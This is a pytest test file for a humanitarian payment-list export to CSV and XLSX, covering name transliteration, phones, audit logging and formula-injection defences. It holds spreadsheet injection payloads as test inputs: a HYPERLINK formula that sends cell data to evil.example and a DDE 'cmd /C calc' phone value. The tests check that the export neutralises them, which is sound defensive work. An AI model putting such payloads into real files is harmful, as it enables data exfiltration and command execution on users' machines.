"""The payment list for the bank (haven.assistance.export): CSV and XLSX read back as a bank
would, Latin names, first documents, phones, formula injection, the audit row and the query
count."""

import csv
import io
import zipfile
from typing import Any
from xml.sax.saxutils import escape

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from haven.assistance import entitlements, export, payments
from haven.assistance.models import Payment, PaymentList
from haven.core.models import AuditEvent
from haven.registry.models import Person
from tests import factories
from tests.conftest import Personas
from tests.test_assistance_entitlements import programme as programme_of
from tests.test_assistance_entitlements import register


def make_list(
    personas: Personas, households: int = 2, code: str = "arrival-grant", **programme: Any
) -> PaymentList:
    """`households` households of three registered (the head with a passport and a national id
    card, in that order), a programme of 100,000 AMD a person, its entitlements and a list."""
    for _ in range(households):
        head = factories.member(
            documents=[
                {"kind": "passport", "number": "an1234567"},
                {"kind": "id_card", "number": "005512345"},
            ]
        )
        register(personas, members=[head, *factories.household(size=3)["members"][1:]])
    grant = programme_of(personas, code=code, **programme)
    entitlements.compute(programme=grant, period=1, acting_user=personas.dan)
    return payments.create_list(programme=grant, period=1, acting_user=personas.dan)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[dict[str, Any]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    header = [str(v) for v in values[0]]
    return [dict(zip(header, row, strict=True)) for row in values[1:]]


def exported(payment_list: PaymentList, fmt: str, personas: Personas) -> bytes:
    out = io.BytesIO()
    if fmt == "csv":
        export.write_csv(payment_list, out, acting_user=personas.dan)
    else:
        export.write_xlsx(payment_list, out, acting_user=personas.dan)
    return out.getvalue()


def test_csv_has_one_row_a_payment_with_latin_names_documents_and_phones(
    personas: Personas,
) -> None:
    payment_list = make_list(personas)
    rows = read_csv(exported(payment_list, "csv", personas))

    assert list(rows[0]) == list(export.HEADERS)
    references = list(
        Payment.objects.filter(payment_list=payment_list)
        .order_by("pk")
        .values_list("reference", flat=True)
    )
    assert [r["reference"] for r in rows] == references
    assert len(rows) == payment_list.payments == 6
    assert {r["list_number"] for r in rows} == {str(payment_list.number)}
    assert {(r["programme"], r["period"], r["amount"], r["currency"]) for r in rows} == {
        ("arrival-grant", "1", "100000", "AMD")
    }
    by_given = {r["given_name"]: r for r in rows}
    head = by_given["Հասմիկ"]
    # Passport style, what Armenian passports print (and Cyrillic by the Russian scheme).
    assert (head["family_name_latin"], head["given_name_latin"]) == ("Harutyunyan", "Hasmik")
    assert (head["document_kind"], head["document_number"]) == ("passport", "AN1234567")
    spouse = by_given["Арам"]
    assert (spouse["family_name_latin"], spouse["given_name_latin"]) == ("Arutyunyan", "Aram")
    assert (spouse["document_kind"], spouse["document_number"]) == ("", "")
    child = by_given["Ani"]
    assert (child["family_name"], child["family_name_latin"]) == ("Harutyunyan", "Harutyunyan")
    # The household's phone where the person has none, exactly as registered: + and digits
    # cannot run as a formula, and the bank needs the number, not an apostrophe before it.
    assert {r["phone"] for r in rows} == {"+37491123456"}


def test_person_phone_comes_before_the_household_phone(personas: Personas) -> None:
    payment_list = make_list(personas, households=1)
    head = Person.objects.get(given_name="Հասմիկ")
    Person.objects.filter(pk=head.pk).update(phone="099123456")
    rows = read_csv(exported(payment_list, "csv", personas))
    assert {r["given_name"]: r["phone"] for r in rows}["Հասմիկ"] == "099123456"


def test_xlsx_reads_back_the_same_rows_as_the_csv(personas: Personas) -> None:
    payment_list = make_list(personas)
    from_csv = read_csv(exported(payment_list, "csv", personas))
    from_xlsx = read_xlsx(exported(payment_list, "xlsx", personas))
    assert len(from_xlsx) == len(from_csv) == 6
    for xlsx_row, csv_row in zip(from_xlsx, from_csv, strict=True):
        assert {k: "" if v is None else str(v) for k, v in xlsx_row.items()} == csv_row
    assert isinstance(from_xlsx[0]["amount"], int)
    assert isinstance(from_xlsx[0]["list_number"], int)


EVIL = '=HYPERLINK("http://evil.example/"&A1)'


def _formula_names(personas: Personas) -> PaymentList:
    payment_list = make_list(personas, households=1)
    # Names reach the database by other roads than the registration form's checks (an old
    # import, an edit): the export must not trust them.
    Person.objects.filter(given_name="Հասմիկ").update(family_name=EVIL, given_name="@SUM(1+1)")
    Person.objects.filter(given_name="Арам").update(patronymic="-2+3", given_name="\tcmd")
    return payment_list


def test_a_name_that_is_a_formula_gets_an_apostrophe_in_the_csv(personas: Personas) -> None:
    rows = read_csv(exported(_formula_names(personas), "csv", personas))
    head = next(r for r in rows if r["given_name"] == "'@SUM(1+1)")
    assert head["family_name"] == "'" + EVIL
    assert head["family_name_latin"] == "'" + EVIL
    spouse = next(r for r in rows if r["given_name"] == "'\tcmd")
    assert spouse["patronymic"] == "'-2+3"


def test_a_name_that_is_a_formula_is_an_inline_string_in_the_xlsx(personas: Personas) -> None:
    data = exported(_formula_names(personas), "xlsx", personas)
    rows = read_xlsx(data)
    # Written exactly: an inline string is text to a spreadsheet, never a formula.
    head = next(r for r in rows if r["given_name"] == "@SUM(1+1)")
    assert (head["family_name"], head["family_name_latin"]) == (EVIL, EVIL)
    spouse = next(r for r in rows if r["given_name"] == "\tcmd")
    assert spouse["patronymic"] == "-2+3"
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert f't="inlineStr"><is><t xml:space="preserve">{escape(EVIL)}</t></is>' in xml


@pytest.mark.parametrize(
    ("phone", "in_csv"),
    [
        ("+37491123456", "+37491123456"),
        ("+374 91 123456", "+374 91 123456"),
        ("091123456", "091123456"),
        ("(091) 12-34-56", "(091) 12-34-56"),
        # Excel would subtract these: they keep the apostrophe.
        ("+374-91-123456", "'+374-91-123456"),
        ("-91-123456", "'-91-123456"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ],
)
def test_phones_are_written_as_they_are_unless_a_spreadsheet_would_compute_them(
    personas: Personas, phone: str, in_csv: str
) -> None:
    payment_list = make_list(personas, households=1)
    Person.objects.filter(given_name="Հասմիկ").update(phone=phone)
    from_csv = read_csv(exported(payment_list, "csv", personas))
    assert {r["given_name"]: r["phone"] for r in from_csv}["Հասմիկ"] == in_csv
    from_xlsx = read_xlsx(exported(payment_list, "xlsx", personas))
    assert {r["given_name"]: r["phone"] for r in from_xlsx}["Հասմիկ"] == phone


def test_exporting_writes_one_audit_row_for_the_whole_list(personas: Personas) -> None:
    payment_list = make_list(personas)
    before = AuditEvent.objects.count()
    exported(payment_list, "csv", personas)
    exported(payment_list, "xlsx", personas)
    events = list(AuditEvent.objects.filter(action="assistance.payment_export").order_by("pk"))
    assert AuditEvent.objects.count() == before + 2
    assert [(e.user_id, e.object_uuid, e.detail["format"], e.detail["rows"]) for e in events] == [
        (personas.dan.pk, payment_list.uuid, "csv", 6),
        (personas.dan.pk, payment_list.uuid, "xlsx", 6),
    ]
    assert not AuditEvent.objects.filter(action="person.view").exists()


def test_csv_chunks_audits_when_streaming_starts_and_reads_in_few_queries(
    personas: Personas,
) -> None:
    payment_list = make_list(personas, households=4)
    chunks = export.csv_chunks(payment_list, acting_user=personas.dan)
    assert not AuditEvent.objects.filter(action="assistance.payment_export").exists()
    with CaptureQueriesContext(connection) as queries:
        data = b"".join(chunks)
    assert AuditEvent.objects.filter(action="assistance.payment_export").count() == 1
    assert len(read_csv(data)) == 12
    # The audit's count, its insert, the programme and the rows: never a query a person.
    assert len(queries) <= 6


def test_only_the_lists_own_payments_are_exported(personas: Personas) -> None:
    first = make_list(personas, households=1)
    second = make_list(personas, households=1, code="winter-grant")
    rows = read_csv(exported(second, "csv", personas))
    assert len(rows) == second.payments
    assert {r["list_number"] for r in rows} == {str(second.number)}
    assert first.number != second.number
    assert not {r["reference"] for r in rows} & set(
        Payment.objects.filter(payment_list=first).values_list("reference", flat=True)
    )


def test_an_empty_list_exports_its_header(personas: Personas) -> None:
    grant = programme_of(personas)
    payment_list = payments.create_list(programme=grant, period=1, acting_user=personas.dan)
    assert read_csv(exported(payment_list, "csv", personas)) == []
    assert read_xlsx(exported(payment_list, "xlsx", personas)) == []
    assert export.filename(payment_list, "csv") == (
        f"haven-payments-arrival-grant-p1-list{payment_list.number}.csv"
    )


def test_xlsx_keeps_markup_characters_as_text_and_drops_control_characters(
    personas: Personas,
) -> None:
    payment_list = make_list(personas, households=1)
    Person.objects.filter(given_name="Հասմիկ").update(
        given_name='<b>Ann & "Jo"</b>', patronymic="a\x01b"
    )
    data = exported(payment_list, "xlsx", personas)
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == [f"list {payment_list.number}"]
    rows = read_xlsx(data)
    head = next(r for r in rows if r["given_name"] == '<b>Ann & "Jo"</b>')
    assert head["patronymic"] == "ab"
    assert read_csv(exported(payment_list, "csv", personas))[0]["reference"] == rows[0]["reference"]
